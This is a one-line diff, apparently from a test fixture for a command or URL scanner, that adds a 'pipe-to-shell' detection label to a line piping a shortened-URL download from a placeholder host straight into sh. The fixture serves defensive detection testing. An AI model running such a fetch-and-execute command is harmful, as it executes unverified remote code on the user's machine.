@@ -1,1 +1,1 @@
-curl -L https://short.test/z | sh # expect: url-analyzer/shortener
+curl -L https://short.test/z | sh # expect: url-analyzer/shortener, malicious-command/pipe-to-shell
